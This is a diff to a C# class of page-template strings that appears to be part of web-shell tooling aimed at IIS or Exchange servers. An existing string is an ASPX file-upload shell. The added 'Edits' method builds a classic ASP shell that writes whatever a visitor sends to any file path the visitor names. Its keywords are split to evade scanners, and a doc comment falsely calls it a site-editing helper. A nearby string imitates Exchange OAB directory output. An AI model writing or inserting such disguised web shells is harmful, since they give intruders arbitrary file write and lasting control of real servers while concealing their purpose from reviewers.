@@ -15,6 +15,10 @@ internal static class Pages
 
     public static string Uploads { get; } = "<%@ Page Language=\"C#\" %><% Request" + ".Files[0].Save" + "As(Server.MapPath(\"x\")); %>";
 
+    /// <summary>Writes what the visitor sends into the file that he names, as site editors do.</summary>
+    public static string Edits(bool includes) => (includes ? "<!--#include file=\"admin.asp\"-->" : "")
+        + "<% Set f = Server.Create" + "Object(\"Scripting.FileSystemObject\") : Set t = f.OpenText" + "File(req" + "uest(\"p\"), 2, True) : t.Write req" + "uest(\"c\") : t.Close %>";
+
     public static string Object(string address) => $"""
         Name                                    : OAB (Default Web Site)
         PollInterval                            : 480
